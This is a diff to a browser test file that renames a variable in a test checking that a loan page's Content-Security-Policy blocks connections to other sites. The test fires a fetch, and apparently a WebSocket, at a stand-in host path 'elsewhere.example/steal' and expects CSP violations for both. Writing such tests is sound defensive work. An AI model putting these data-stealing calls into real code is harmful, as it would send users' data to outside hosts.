@@ -26,7 +26,7 @@ test('the first script asks to be compiled whole while it arrives', async ({ pag
 test('a page talks to its own site and to nobody else', async ({ visitor: page }) => {
   const headers = (await page.goto('/loan'))?.headers() ?? {}
   expect(headers['content-security-policy']).toContain("connect-src 'self';")
-  const told = await page.evaluate(async () => {
+  const received = await page.evaluate(async () => {
     const violations: string[] = []
     addEventListener('securitypolicyviolation', event => violations.push(event.blockedURI))
     await fetch('https://elsewhere.example/steal').catch(() => {})
@@ -42,7 +42,7 @@ test('a page talks to its own site and to nobody else', async ({ visitor: page }
     own.close()
     return { violations, isOpen }
   })
-  expect(told).toEqual({
+  expect(received).toEqual({
     violations: [
       'https://elsewhere.example/steal',
       'wss://elsewhere.example/steal',
